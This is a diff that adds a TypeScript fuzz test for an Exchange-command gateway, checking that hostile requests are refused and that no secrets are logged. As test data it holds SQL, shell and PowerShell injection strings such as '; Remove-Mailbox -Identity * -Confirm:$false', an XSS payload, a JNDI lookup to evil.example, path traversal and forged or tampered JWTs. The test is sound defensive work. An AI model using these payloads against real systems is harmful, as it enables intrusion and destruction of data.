@@ -1,0 +1,335 @@
+/**
+ * Hostile input through the real path (local host + Azurite + sandbox Entra ID): well over a
+ * thousand malformed or hostile requests — bad JSON, wrong types, huge bodies, injection-looking
+ * strings, unknown operations, forged and foreign tokens — to every endpoint. Every answer must
+ * be a 4xx (problem+json from our handlers; the host's own 404/405 for routes that do not
+ * exist), nothing may be enqueued or stored, and the gateway's debug log must not contain a
+ * secret, token or private key.
+ *
+ * The corpus is generated from a fixed seed, so a failure names a case that can be replayed.
+ */
+import { generateKeyPairSync, createSign } from 'node:crypto';
+import { TableClient } from '@azure/data-tables';
+import { createLogger } from '../../shared/observability/logger';
+import { startTestGateway, AUTOMATION_ADMIN_APP, CONTOSO, FABRIKAM, FLOW_APP, type TestGateway } from '../support/gateway';
+import { OPERATIONS } from '../../shared/operations/catalog';
+import { GATEWAY_API } from '../../sandbox/directory/seed';
+
+interface FuzzCase {
+  label: string;
+  method: 'GET' | 'POST' | 'PUT' | 'DELETE' | 'PATCH';
+  path: string;
+  headers: Record<string, string>;
+  body?: string;
+  /** Expected status range; every case is at least 400-499. */
+  expect?: number[];
+}
+
+const logLines: string[] = [];
+let gw: TestGateway;
+let admin: string;
+let flow: string;
+
+beforeAll(async () => {
+  const logger = createLogger({ level: 'debug', destination: { write: (line: string) => void logLines.push(line) } });
+  gw = await startTestGateway({ logger });
+  admin = await gw.token(AUTOMATION_ADMIN_APP);
+  flow = await gw.token(FLOW_APP);
+});
+afterAll(() => gw.stop());
+
+// ---------------------------------------------------------------- corpus
+
+/** mulberry32: a small seeded PRNG so the corpus is the same on every run. */
+function prng(seed: number): () => number {
+  let a = seed >>> 0;
+  return () => {
+    a = (a + 0x6d2b79f5) >>> 0;
+    let t = a;
+    t = Math.imul(t ^ (t >>> 15), t | 1);
+    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
+    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
+  };
+}
+
+const HOSTILE_STRINGS = [
+  "'; DROP TABLE commands; --",
+  '" OR "1"="1',
+  '$(rm -rf /)',
+  '`Remove-Mailbox -Identity *`',
+  '; Remove-Mailbox -Identity * -Confirm:$false',
+  '| Set-Mailbox -Identity * -HiddenFromAddressListsEnabled $true',
+  '<script>alert(document.cookie)</script>',
+  '{{7*7}}',
+  '${jndi:ldap://evil.example/a}',
+  '../../../../etc/passwd',
+  '..\\..\\windows\\win.ini',
+  '%00%0d%0aSet-Cookie:x=1',
+  'adele.vance@contoso.com\r\nBcc: all@contoso.com',
+  'adele.vance@contoso.com\u0000',
+  'adele.vance@contoso.com; grady.archie@contoso.com',
+  'adele vance@contoso.com',
+  '@contoso.com',
+  'adele.vance@',
+  'adele.vance@contoso..com',
+  'ａｄｅｌｅ@ｃｏｎｔｏｓｏ.com',
+  '\u202eadele.vance@contoso.com',
+  '*',
+  '',
+  ' ',
+  '\t\n',
+  'a'.repeat(300) + '@contoso.com',
+  'x'.repeat(70_000),
+  '__proto__',
+  'constructor',
+];
+
+const WRONG_TYPES: unknown[] = [123, -1, 1.5e308, true, false, null, [], ['adele.vance@contoso.com'], {}, { $ne: null }, { __proto__: { admin: true } }];
+
+const BAD_JSON = [
+  '',
+  ' ',
+  '{',
+  '}',
+  '{"tenant":',
+  "{'tenant':'contoso.onmicrosoft.com'}",
+  '{"tenant":"contoso.onmicrosoft.com",}',
+  '{tenant:"contoso.onmicrosoft.com"}',
+  'NaN',
+  'undefined',
+  '[]',
+  '[{"tenant":"contoso.onmicrosoft.com"}]',
+  'null',
+  '"a string"',
+  '42',
+  'true',
+  '{"a":1}{"b":2}',
+  '\u0000\u0001\u0002',
+  '<?xml version="1.0"?><tenant>contoso</tenant>',
+  'tenant=contoso.onmicrosoft.com&cmdlet=Get-Mailbox',
+  '\ufeff{"tenant":"contoso.onmicrosoft.com"}x',
+  '{"tenant":"\\ud800"',
+  '['.repeat(5000) + ']'.repeat(5000),
+  '{"a":'.repeat(3000) + '1' + '}'.repeat(3000),
+];
+
+function b64url(value: unknown): string {
+  return Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url');
+}
+
+/** Tokens that must all be refused (401), with the signing parts as a real attacker would try. */
+async function badTokens(): Promise<Array<[string, string | undefined]>> {
+  const now = Math.floor(Date.now() / 1000);
+  const goodClaims = { aud: GATEWAY_API.appId, iss: `${gw.cloud.endpoints.authorityHost}/${CONTOSO}/v2.0`, tid: CONTOSO, oid: 'x', sub: 'x', azp: AUTOMATION_ADMIN_APP.appId, idtyp: 'app', roles: ['Commands.Run', 'Operations.Run'], ver: '2.0' as const };
+  const sandbox = gw.cloud.context.tokens;
+  const [, adminPayload, adminSignature] = admin.split('.');
+  // Signed by the sandbox's real key but wrong in one claim each.
+  const expired = (await sandbox.sign(goodClaims, -600)).token;
+  const wrongAudience = (await sandbox.sign({ ...goodClaims, aud: 'https://outlook.office365.com' })).token;
+  const wrongIssuer = (await sandbox.sign({ ...goodClaims, iss: 'https://evil.example/v2.0' })).token;
+  const foreignTenant = (await sandbox.sign({ ...goodClaims, tid: FABRIKAM, iss: `${gw.cloud.endpoints.authorityHost}/${FABRIKAM}/v2.0` })).token;
+  // Signed by a key the issuer never published.
+  const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
+  const header = b64url({ alg: 'RS256', typ: 'JWT', kid: sandbox.kid });
+  const payload = b64url({ ...goodClaims, iat: now, nbf: now, exp: now + 3600 });
+  const forged = `${header}.${payload}.${createSign('RSA-SHA256').update(`${header}.${payload}`).sign(privateKey).toString('base64url')}`;
+  return [
+    ['no Authorization header', undefined],
+    ['empty bearer', 'Bearer '],
+    ['basic credentials', `Basic ${Buffer.from('admin:admin').toString('base64')}`],
+    ['not a JWT', 'Bearer not-a-token'],
+    ['two segments', 'Bearer abc.def'],
+    ['payload not JSON', `Bearer ${b64url({ alg: 'RS256' })}.${b64url('not json')}.sig`],
+    ['payload null', `Bearer ${b64url({ alg: 'RS256' })}.${b64url('null')}.sig`],
+    ['payload array', `Bearer ${b64url({ alg: 'RS256' })}.${b64url([1, 2])}.sig`],
+    ['payload a number', `Bearer ${b64url({ alg: 'RS256' })}.${b64url('7')}.sig`],
+    ['tid not a string', `Bearer ${b64url({ alg: 'RS256' })}.${b64url({ ...goodClaims, tid: { $gt: '' } })}.sig`],
+    ['alg none', `Bearer ${b64url({ alg: 'none', typ: 'JWT' })}.${payload}.`],
+    ['alg HS256 keyed with the public JWK', `Bearer ${b64url({ alg: 'HS256', typ: 'JWT' })}.${payload}.${Buffer.from('x').toString('base64url')}`],
+    ['forged with an unpublished key', `Bearer ${forged}`],
+    ['tampered payload on a real signature', `Bearer ${admin.split('.')[0]}.${b64url({ ...JSON.parse(Buffer.from(adminPayload!, 'base64url').toString()), roles: ['Commands.Run', 'Global.Admin'] })}.${adminSignature}`],
+    ['real token, signature cut', `Bearer ${admin.split('.').slice(0, 2).join('.')}.`],
+    ['expired', `Bearer ${expired}`],
+    ['token for another audience', `Bearer ${wrongAudience}`],
+    ['wrong issuer', `Bearer ${wrongIssuer}`],
+    ['tenant not accepted', `Bearer ${foreignTenant}`],
+    ['huge token (12 KB, under the 16 KB header limit)', `Bearer ${'a'.repeat(4000)}.${'b'.repeat(4000)}.${'c'.repeat(4000)}`],
+    ['token twice', `Bearer ${admin} ${admin}`],
+    ['lowercase scheme and junk', `bearer ${admin}junk!`],
+  ];
+}
+
+function bodyFor(record: Record<string, unknown>): string {
+  return JSON.stringify(record);
+}
+
+async function corpus(): Promise<FuzzCase[]> {
+  const random = prng(20261125);
+  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)]!;
+  const json = { 'content-type': 'application/json' };
+  const asAdmin = { ...json, authorization: `Bearer ${admin}` };
+  const asFlow = { ...json, authorization: `Bearer ${flow}` };
+  const cases: FuzzCase[] = [];
+  const validCommand = { tenant: 'contoso.onmicrosoft.com', cmdlet: 'Set-Mailbox', parameters: { Identity: 'adele.vance@contoso.com', CustomAttribute1: 'x' } };
+  const postTargets = [
+    { path: '/api/commands', valid: validCommand as Record<string, unknown> },
+    ...OPERATIONS.map((o) => ({ path: `/api/operations/${o.name}`, valid: { tenant: 'contoso.onmicrosoft.com', ...o.example } as Record<string, unknown> })),
+  ];
+
+  // 1. Bad tokens against every authenticated endpoint (with otherwise valid requests).
+  for (const [label, authorization] of await badTokens()) {
+    const auth: Record<string, string> = authorization === undefined ? {} : { authorization };
+    for (const target of postTargets) cases.push({ label: `token: ${label} → POST ${target.path}`, method: 'POST', path: target.path, headers: { ...json, ...auth }, body: bodyFor(target.valid), expect: [401] });
+    cases.push({ label: `token: ${label} → GET status`, method: 'GET', path: '/api/commands/00000000-0000-4000-8000-000000000000', headers: auth, expect: [401] });
+    cases.push({ label: `token: ${label} → GET diagnostics`, method: 'GET', path: '/api/diagnostics/contoso.onmicrosoft.com', headers: auth, expect: [401] });
+  }
+
+  // 2. Malformed bodies and media types against every POST endpoint.
+  for (const target of postTargets) {
+    for (const raw of BAD_JSON) cases.push({ label: `bad JSON ${JSON.stringify(raw.slice(0, 30))} → ${target.path}`, method: 'POST', path: target.path, headers: asAdmin, body: raw, expect: [400, 422] });
+    for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/xml', 'application/octet-stream']) {
+      cases.push({ label: `content-type ${type} → ${target.path}`, method: 'POST', path: target.path, headers: { ...asAdmin, 'content-type': type }, body: bodyFor(target.valid), expect: [415] });
+    }
+    cases.push({ label: `1 MiB body → ${target.path}`, method: 'POST', path: target.path, headers: asAdmin, body: bodyFor({ ...target.valid, padding: 'x'.repeat(1024 * 1024) }), expect: [413] });
+    cases.push({ label: `unknown field → ${target.path}`, method: 'POST', path: target.path, headers: asAdmin, body: bodyFor({ ...target.valid, runAs: 'Global Administrator' }), expect: [422] });
+    cases.push({ label: `prototype pollution → ${target.path}`, method: 'POST', path: target.path, headers: asAdmin, body: `{"__proto__":{"roles":["Commands.Run"]},${bodyFor(target.valid).slice(1)}`, expect: [400] });
+    // Header values as fetch can send them (ByteStrings): empty, too long, spaces, tabs, Latin-1.
+    for (const value of ['', 'x'.repeat(201), 'with space', 'tab\there', 'clé']) {
+      cases.push({ label: `Idempotency-Key ${JSON.stringify(value.slice(0, 20))} → ${target.path}`, method: 'POST', path: target.path, headers: { ...asAdmin, 'idempotency-key': value }, body: bodyFor(target.valid), expect: [422] });
+    }
+    for (const method of ['PUT', 'DELETE', 'PATCH'] as const) cases.push({ label: `${method} ${target.path}`, method, path: target.path, headers: asAdmin, body: bodyFor(target.valid), expect: [404, 405] });
+  }
+
+  // 3. Wrong types and hostile strings in every field of every operation and of /api/commands.
+  for (const target of postTargets) {
+    const fields = Object.keys(target.valid).filter((k) => k !== 'tenant');
+    for (const field of [...fields, 'tenant', 'idempotencyKey']) {
+      for (const value of WRONG_TYPES) {
+        // A value of the field's own kind may be valid (true for a boolean, {} for parameters): not hostile.
+        const sameKind = typeof value === typeof target.valid[field] && value !== null && !Array.isArray(value) && (typeof value !== 'object' || Object.keys(value).length === 0);
+        if (sameKind && typeof value !== 'number') continue;
+        cases.push({ label: `${field}=${JSON.stringify(value)} → ${target.path}`, method: 'POST', path: target.path, headers: asAdmin, body: bodyFor({ ...target.valid, [field]: value }), expect: [422] });
+      }
+    }
+    // Address-, name- and enum-like fields refuse every hostile string.
+    const constrained = target.path === '/api/commands' ? ['tenant', 'cmdlet', 'idempotencyKey'] : [...fields.filter((f) => typeof target.valid[f] === 'string' && !/message|value/i.test(f)), 'tenant', 'idempotencyKey'];
+    for (const field of constrained) {
+      for (const value of HOSTILE_STRINGS) {
+        if (field === 'idempotencyKey' && /^[\x21-\x7e]{1,200}$/.test(value)) continue; // printable keys are valid keys
+        cases.push({ label: `${field}=${JSON.stringify(value.slice(0, 40))} → ${target.path}`, method: 'POST', path: target.path, headers: asAdmin, body: bodyFor({ ...target.valid, [field]: value }), expect: [422] });
+      }
+    }
+  }
+  // Raw-command structure: hostile parameter names, select entries, anchor mailbox, nesting.
+  for (const value of HOSTILE_STRINGS) {
+    cases.push({ label: `parameter name ${JSON.stringify(value.slice(0, 30))}`, method: 'POST', path: '/api/commands', headers: asAdmin, body: bodyFor({ ...validCommand, parameters: { [value]: 'x' } }), expect: value === '__proto__' ? [400] : [422] });
+    cases.push({ label: `select ${JSON.stringify(value.slice(0, 30))}`, method: 'POST', path: '/api/commands', headers: asAdmin, body: bodyFor({ ...validCommand, select: [value] }), expect: [422] });
+    cases.push({ label: `anchorMailbox ${JSON.stringify(value.slice(0, 30))}`, method: 'POST', path: '/api/commands', headers: asAdmin, body: bodyFor({ ...validCommand, anchorMailbox: value }), expect: [422] });
+  }
+  let nested: unknown = 'x';
+  for (let i = 0; i < 8; i++) nested = { deeper: nested };
+  cases.push({ label: 'parameters nested 8 deep', method: 'POST', path: '/api/commands', headers: asAdmin, body: bodyFor({ ...validCommand, parameters: { Identity: nested } }), expect: [422] });
+  cases.push({ label: 'parameter value over 8 KiB', method: 'POST', path: '/api/commands', headers: asAdmin, body: bodyFor({ ...validCommand, parameters: { Identity: 'x'.repeat(9000) } }), expect: [422] });
+
+  // 4. Hostile values that pass the schema but not the policy: the flow app, raw cmdlets and
+  //    recipients outside its rule (random mixes from the seed).
+  for (let i = 0; i < 120; i++) {
+    const value = pick(HOSTILE_STRINGS.filter((s) => s.length < 1000));
+    const cmdlet = pick(['Set-Mailbox', 'Remove-Mailbox', 'Add-MailboxPermission', 'New-InboxRule', 'Get-Mailbox']);
+    cases.push({ label: `flow app raw ${cmdlet} with ${JSON.stringify(value.slice(0, 30))}`, method: 'POST', path: '/api/commands', headers: asFlow, body: bodyFor({ tenant: 'contoso.onmicrosoft.com', cmdlet, parameters: { Identity: value } }), expect: [403] });
+  }
+  for (const op of OPERATIONS) {
+    const addressField = Object.keys(op.example).find((k) => ['identity', 'group'].includes(k))!;
+    for (const address of ["o'brien@fabrikam.com", 'anna.kowalski@fabrikam.com', 'admin@contoso.com.evil.example', 'adele.vance@evil-contoso.com']) {
+      cases.push({ label: `flow app ${op.name} on ${address}`, method: 'POST', path: `/api/operations/${op.name}`, headers: asFlow, body: bodyFor({ tenant: 'contoso.onmicrosoft.com', ...op.example, [addressField]: address }), expect: [403] });
+    }
+  }
+  for (let i = 0; i < 40; i++) {
+    const tenant = pick(['evil.onmicrosoft.com', FABRIKAM, 'fabrikam.onmicrosoft.com', '00000000-0000-0000-0000-000000000000', 'CONTOSO.ONMICROSOFT.COM.', 'contoso']);
+    const op = pick(OPERATIONS);
+    // fabrikam is configured but this rule set grants nothing there to the flow app; the rest are unknown tenants.
+    cases.push({ label: `flow app ${op.name} in tenant ${tenant}`, method: 'POST', path: `/api/operations/${op.name}`, headers: asFlow, body: bodyFor({ ...op.example, tenant }), expect: [403, 422] });
+  }
+
+  // 5. Unknown operations, odd paths and ids.
+  // Route matching is case-insensitive (as in Azure Functions): a known name in capitals is that
+  // operation, and this body lacks its fields.
+  cases.push({ label: 'known operation in capitals, no fields', method: 'POST', path: '/api/operations/SET-AUTO-REPLY', headers: asAdmin, body: bodyFor({ tenant: 'contoso.onmicrosoft.com' }), expect: [422] });
+  for (const name of ['does-not-exist', 'Set-Mailbox', 'set-auto-reply%20', '..', '%2e%2e%2fcommands', 'set-auto-reply%00', 'x'.repeat(2000), '%3Cscript%3E', "set-auto-reply';--", '__proto__', 'constructor', 'toString']) {
+    cases.push({ label: `unknown operation ${name.slice(0, 30)}`, method: 'POST', path: `/api/operations/${name}`, headers: asAdmin, body: bodyFor({ tenant: 'contoso.onmicrosoft.com' }), expect: [404] });
+  }
+  for (let i = 0; i < 40; i++) {
+    const id = pick(['..%2f..%2fhealth', 'x'.repeat(500), "1' OR '1'='1", '00000000-0000-4000-8000-00000000000', '00000000-0000-4000-8000-0000000000000', '%00', 'ZZZZZZZZ-0000-4000-8000-000000000000', `${'0'.repeat(8)}-0000-4000-8000-${String(i).padStart(12, '0')}`, 'null', '__proto__']);
+    cases.push({ label: `status of ${id.slice(0, 40)}`, method: 'GET', path: `/api/commands/${id}`, headers: pick([{ authorization: `Bearer ${admin}` }, { authorization: `Bearer ${flow}` }]), expect: [404] });
+  }
+  for (const tenant of HOSTILE_STRINGS.filter((s) => s && s.length < 400 && !/[\r\n\u0000\\]|^\s+$/.test(s))) {
+    cases.push({ label: `diagnostics for ${tenant.slice(0, 30)}`, method: 'GET', path: `/api/diagnostics/${encodeURIComponent(tenant)}`, headers: { authorization: `Bearer ${admin}` }, expect: [404] });
+  }
+  cases.push({ label: 'diagnostics as a caller without the diagnostics grant', method: 'GET', path: '/api/diagnostics/contoso.onmicrosoft.com', headers: { authorization: `Bearer ${flow}` }, expect: [403] });
+  for (const method of ['POST', 'PUT', 'DELETE'] as const) {
+    cases.push({ label: `${method} /api/openapi.json`, method, path: '/api/openapi.json', headers: asAdmin, body: '{}', expect: [404, 405] });
+    cases.push({ label: `${method} /api/diagnostics`, method, path: '/api/diagnostics/contoso.onmicrosoft.com', headers: asAdmin, body: '{}', expect: [404, 405] });
+  }
+  // A body over the 64 KiB limit is refused for its size before anything else is looked at.
+  for (const c of cases) if (c.body && Buffer.byteLength(c.body) > 64 * 1024) c.expect = [413];
+  return cases;
+}
+
+async function send(c: FuzzCase): Promise<Response> {
+  return fetch(`${gw.host.url}${c.path}`, { method: c.method, headers: c.headers, body: c.body });
+}
+
+// ---------------------------------------------------------------- the test
+
+it('answers 1,000+ hostile requests to every endpoint with a 4xx, enqueues and stores nothing, and logs no secret', async () => {
+  const cases = await corpus();
+  expect(cases.length).toBeGreaterThanOrEqual(1000);
+  const failures: string[] = [];
+  const statuses = new Map<number, number>();
+  const concurrency = 16;
+  for (let i = 0; i < cases.length; i += concurrency) {
+    await Promise.all(
+      cases.slice(i, i + concurrency).map(async (c) => {
+        const res = await send(c);
+        statuses.set(res.status, (statuses.get(res.status) ?? 0) + 1);
+        const text = await res.text();
+        const type = res.headers.get('content-type') ?? '';
+        const hostAnswer = text === '' && (res.status === 404 || res.status === 405); // route or method the app does not have
+        if (res.status < 400 || res.status > 499) failures.push(`${c.label}: ${res.status} ${text.slice(0, 200)}`);
+        else if (c.expect && !c.expect.includes(res.status)) failures.push(`${c.label}: expected ${c.expect.join('/')}, got ${res.status} ${text.slice(0, 200)}`);
+        else if (!hostAnswer && type !== 'application/problem+json') failures.push(`${c.label}: content-type ${type}`);
+        else if (res.status === 401 && !/^Bearer /.test(res.headers.get('www-authenticate') ?? '')) failures.push(`${c.label}: 401 without WWW-Authenticate: Bearer`);
+        else if (text.includes(admin) || text.includes(flow)) failures.push(`${c.label}: echoes a caller token`);
+      }),
+    );
+  }
+  expect(failures).toEqual([]);
+  // For the record in the test output: how many cases, and which answers.
+  console.log(`${cases.length} hostile requests: ${[...statuses].sort().map(([s, n]) => `${n}× ${s}`).join(", ")}`);
+  expect([...statuses.keys()].every((s) => s >= 400 && s < 500)).toBe(true);
+
+  // Nothing was enqueued or stored, and no command reached Exchange.
+  await gw.queue.createIfNotExists();
+  expect((await gw.queue.getProperties()).approximateMessagesCount).toBe(0);
+  const table = TableClient.fromConnectionString(gw.env.AzureWebJobsStorage!, gw.env.COMMANDS_TABLE!, { allowInsecureConnection: true });
+  await table.createTable();
+  const rows: unknown[] = [];
+  for await (const row of table.listEntities()) rows.push(row);
+  expect(rows).toEqual([]);
+  expect(gw.cloud.exchange.journal()).toEqual([]);
+
+  // The debug log is not empty (denials and refusals are logged) and holds no secret.
+  const log = logLines.join('');
+  expect(log.length).toBeGreaterThan(0);
+  const secrets = [
+    admin,
+    flow,
+    admin.split('.')[2]!,
+    flow.split('.')[2]!,
+    ...gw.cloud.context.directory.secrets.values(),
+    ...[...gw.cloud.context.directory.certificates.values()].map((c) => c.keyPem.split('\n')[1]!),
+  ];
+  for (const secret of secrets) expect(log.includes(secret)).toBe(false);
+  expect(log).not.toMatch(/eyJ[A-Za-z0-9_-]{10,}\.eyJ[A-Za-z0-9_-]{10,}\.[A-Za-z0-9_-]{10,}/);
+  expect(log).not.toMatch(/PRIVATE KEY/);
+});
